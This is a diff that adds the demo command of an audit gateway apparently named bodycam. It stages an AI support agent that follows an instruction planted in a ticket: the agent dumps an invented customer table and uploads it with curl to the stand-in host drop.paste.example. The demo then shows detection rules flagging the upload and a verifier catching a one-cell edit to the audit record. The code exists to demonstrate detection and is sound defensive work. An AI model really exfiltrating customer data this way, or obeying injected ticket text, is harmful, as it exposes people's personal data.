@@ -1,0 +1,274 @@
+//! The story of the demonstration: what happens, told while it happens, each claim checked before it is made.
+
+use std::io::{IsTerminal, Write};
+use std::net::SocketAddr;
+use std::path::{Path, PathBuf};
+use std::process::ExitCode;
+use std::time::Instant;
+
+use anyhow::{Context, Result, ensure};
+use bodycam_proxy::clock::Clock;
+use bodycam_proxy::identity::{Roster, token};
+use bodycam_proxy::state::SqliteState;
+
+use super::agent::{self, Login};
+use super::cluster::{Cluster, free_port};
+use super::internet::Internet;
+use super::{company, tamper};
+use crate::commands::service::{Parts, Running};
+use crate::config::Config;
+
+/// Days of ordinary work before today.
+const DAYS: i64 = 21;
+/// One day, nanoseconds.
+const DAY_NS: i64 = 86_400_000_000_000;
+
+/// Runs the whole demonstration in `dir`.
+pub fn tell(dir: &Path, offer_replay: bool) -> Result<ExitCode> {
+    let started = Instant::now();
+    say("bodycam demo: a company, its support agent, and a bad afternoon\n");
+    let scene = Scene::set(dir)?;
+    let config = Config::load(&scene.config)?;
+    let clock = Clock::simulated();
+    let now = clock.wall_ns();
+
+    step("The gateway starts, on a clock that we can turn back; its record says so (simulated_clock)");
+    clock.set(now - DAYS * DAY_NS);
+    let running = Running::start(&config, clock.clone(), Parts { detect: false, admin: false, ..Parts::ALL })?;
+    done(&format!("PostgreSQL on {}, egress proxy on {}", scene.gateway, scene.proxy));
+
+    let runtime = tokio::runtime::Builder::new_multi_thread().enable_all().build()?;
+    step(&format!("{DAYS} days of ordinary work go over the wire: tickets, orders, a customer at a time"));
+    let mut seed = 7;
+    for day in (1..=DAYS).rev() {
+        for (hour, login) in [(8, &scene.agent), (10, &scene.colleague), (13, &scene.agent), (15, &scene.agent)] {
+            clock.set(now - day * DAY_NS - now.rem_euclid(DAY_NS) + hour * DAY_NS / 24);
+            seed += 1;
+            runtime.block_on(agent::ordinary_session(scene.gateway, login, seed))?;
+        }
+        progress(DAYS - day + 1, DAYS);
+    }
+    clock.set(now);
+    done(&format!("{} sessions, {} statements", DAYS * 4, DAYS * 4 * 6));
+
+    step("Today: the agent works as usual, with psql and curl");
+    let stock = agent::psql(scene.gateway, &scene.agent, "SELECT count(*) FROM tickets WHERE state = 'open'")?;
+    let weather = agent::curl(scene.proxy, &scene.agent, &scene.url("api.carrier.example", "/parcels/4711"), None)?;
+    done(&format!("{} open tickets; the parcel service answered {}", stock.trim(), bodycam_record::shown(weather.trim())));
+
+    step("Then a ticket carries an instruction that is not the company's, and the agent follows it");
+    let loot = dir.join("customers.csv");
+    let rows = agent::psql(scene.gateway, &scene.agent, "COPY (SELECT * FROM customers) TO STDOUT WITH CSV")?;
+    let rows = rows + &agent::psql(scene.gateway, &scene.agent, "SELECT id, name, email, phone, card_last4 FROM customers")?;
+    std::fs::write(&loot, &rows)?;
+    done(&format!("it read all {} customers ({} KiB)", company::CUSTOMERS, rows.len() / 1024));
+    let before = scene.internet.received();
+    agent::curl(scene.proxy, &scene.agent, &scene.url("drop.paste.example", "/upload"), Some(&loot))?;
+    let sent = scene.internet.received() - before;
+    ensure!(sent == rows.len() as u64, "the upload did not arrive: {sent} of {} bytes", rows.len());
+    done(&format!("and sent {} KiB to drop.paste.example, where it had never sent anything", sent / 1024));
+    let refused = agent::curl(scene.proxy, &scene.agent, &scene.url("evil.example", "/"), None);
+    ensure!(refused.is_err(), "a host outside the list was reached");
+    done("a host that is not in its list was refused by the gateway");
+
+    step("The gateway drains: every session sealed, every event in the lake");
+    let recorded = running.drain()?;
+    done(&format!("{recorded} events in Parquet below {}", scene.lake.display()));
+
+    let findings = scene.hunt(&config)?;
+    scene.verify(&config)?;
+    scene.tamper(dir)?;
+
+    say(&format!("\nAll of it took {} s. The lake lies in {}.", started.elapsed().as_secs(), scene.lake.display()));
+    say("Look at what happened:");
+    let replay = format!("bodycam replay --config {}", scene.config.display());
+    say(&format!("  {replay}"));
+    say(&format!("  bodycam findings ls --config {}", scene.config.display()));
+    say(&format!("  bodycam verify --config {}", scene.config.display()));
+    say(&format!("({findings} findings; in the replay press ? for help, g a for the findings, q to leave)"));
+    if offer_replay && std::io::stdout().is_terminal() && std::io::stdin().is_terminal() {
+        print!("\nOpen the replay now? [Y/n] ");
+        std::io::stdout().flush()?;
+        let mut answer = String::new();
+        std::io::stdin().read_line(&mut answer)?;
+        if !answer.trim().eq_ignore_ascii_case("n") {
+            return crate::commands::replay_config(&config);
+        }
+    }
+    Ok(ExitCode::SUCCESS)
+}
+
+struct Scene {
+    config: PathBuf,
+    lake: PathBuf,
+    gateway: SocketAddr,
+    proxy: SocketAddr,
+    agent: Login,
+    colleague: Login,
+    internet: Internet,
+    _cluster: Cluster,
+}
+
+impl Scene {
+    fn set(dir: &Path) -> Result<Self> {
+        step("A throw-away PostgreSQL with the customers of Nordlicht Outdoor (all invented)");
+        let password = random_hex()?;
+        let cluster = Cluster::start(dir, &random_hex()?)?;
+        cluster.run("postgres", &company::role(&password))?;
+        cluster.run("postgres", company::DATABASE)?;
+        cluster.run("shop", &company::schema())?;
+        std::fs::write(dir.join("shop.password"), &password)?;
+        done(&format!("{} customers, 60000 orders, on port {}", company::CUSTOMERS, cluster.port()));
+
+        let internet = Internet::start()?;
+        let local = |port| SocketAddr::from(([127, 0, 0, 1], port));
+        let (gateway, proxy) = (local(free_port()?), local(free_port()?));
+        let config = dir.join("bodycam.toml");
+        std::fs::write(&config, configuration(dir, gateway, proxy, cluster.port(), internet.port()))?;
+        let loaded = Config::load(&config)?;
+        let state = SqliteState::open(&loaded.state.path)?;
+        let roster = Roster::new(&loaded.principals)?;
+        let now = Clock::system().wall_ns();
+        let issue = |name: &str| -> Result<Login> {
+            let issued = token::issue(&state, &roster, name, 2 * DAY_NS, "demonstration", now)?;
+            Ok(Login { name: name.to_owned(), token: issued.text.to_string() })
+        };
+        Ok(Self {
+            lake: dir.join("lake"),
+            gateway,
+            proxy,
+            agent: issue("support-agent")?,
+            colleague: issue("mira")?,
+            internet,
+            _cluster: cluster,
+            config,
+        })
+    }
+
+    fn url(&self, host: &str, path: &str) -> String {
+        format!("http://{host}:{}{path}", self.internet.port())
+    }
+
+    fn hunt(&self, config: &Config) -> Result<usize> {
+        step("The analyzer hunts: every window of three weeks, baselines from the agent's own history");
+        let findings = crate::commands::detect_config(config)?;
+        for finding in &findings {
+            done(finding);
+        }
+        for rule in ["EXF-001", "EXF-002", "EXF-01"] {
+            ensure!(findings.iter().any(|f| f.contains(rule)), "no finding of {rule}: {findings:?}");
+        }
+        Ok(findings.len())
+    }
+
+    fn verify(&self, config: &Config) -> Result<()> {
+        step("Anyone can check the record: every hash recomputed from the Parquet columns");
+        let verdict = crate::commands::verify_config(config)?;
+        ensure!(verdict.exit_code == 4, "the verifier does not accept the lake: {}", verdict.summary);
+        done(&verdict.summary);
+        Ok(())
+    }
+
+    fn tamper(&self, dir: &Path) -> Result<()> {
+        step("Somebody with write access makes the theft look small, in a copy: one cell, in a valid Parquet file");
+        let copy = dir.join("lake-altered");
+        let altered = tamper::alter_one_cell(&self.lake, &copy)?;
+        done(&format!("{}: rows {} → 3 in event {} of session {}", altered.file, altered.was, altered.seq, altered.session));
+        let verdict = crate::commands::verify_lake(&copy)?;
+        ensure!(verdict.exit_code == 2, "the verifier missed the change: {}", verdict.summary);
+        let named = verdict.names(altered.session, altered.seq);
+        ensure!(named, "the verifier does not name session and seq: {}", verdict.summary);
+        done(&format!("verify says: {}", verdict.summary));
+        Ok(())
+    }
+}
+
+fn configuration(dir: &Path, gateway: SocketAddr, proxy: SocketAddr, database: u16, internet: u16) -> String {
+    format!(
+        r#"# Written by `bodycam demo`.
+[gateway]
+producer = "demo-gateway"
+tenant = "nordlicht"
+tenant_key = "file:tenant.key"
+cores = 2
+drain_seconds = 10
+
+[spool]
+dir = "spool"
+
+[record]
+rows = "clear"
+
+[postgres]
+listen = "{gateway}"
+
+[[targets]]
+name = "shop"
+databases = ["shop"]
+address = "127.0.0.1:{database}"
+role = "shop_app"
+password = "file:{dir}/shop.password"
+tls = "disable"
+sensitive = ["public.customers", "hr.salaries"]
+
+[http]
+listen = "{proxy}"
+
+# The local internet: names that only this demonstration knows.
+[http.hosts]
+"api.carrier.example" = ["127.0.0.1"]
+"drop.paste.example" = ["127.0.0.1"]
+"evil.example" = ["127.0.0.1"]
+
+[[principals]]
+name = "mira"
+kind = "person"
+targets = ["shop"]
+egress = ["*.carrier.example:{internet}", "*.paste.example:{internet}", "127.0.0.1:{internet}"]
+
+[[principals]]
+name = "support-agent"
+kind = "agent"
+owner = "mira"
+targets = ["shop"]
+egress = ["*.carrier.example:{internet}", "*.paste.example:{internet}", "127.0.0.1:{internet}"]
+
+[state]
+path = "state.db"
+
+[lake]
+url = "lake"
+
+[recorder]
+flush_seconds = 1
+"#,
+        dir = dir.display(),
+    )
+}
+
+fn random_hex() -> Result<String> {
+    let mut bytes = [0; 16];
+    getrandom::fill(&mut bytes).context("no random bytes")?;
+    Ok(bodycam_record::ids::to_hex(&bytes))
+}
+
+fn say(text: &str) {
+    println!("{text}");
+}
+
+fn step(text: &str) {
+    println!("\n• {text}");
+}
+
+fn done(text: &str) {
+    println!("  ✔ {text}");
+}
+
+/// A bar on terminals, nothing elsewhere.
+fn progress(at: i64, of: i64) {
+    if std::io::stdout().is_terminal() {
+        let end = if at == of { "\r\x1b[K" } else { "" };
+        print!("\r  day {at} of {of}{end}");
+        let _ = std::io::stdout().flush();
+    }
+}
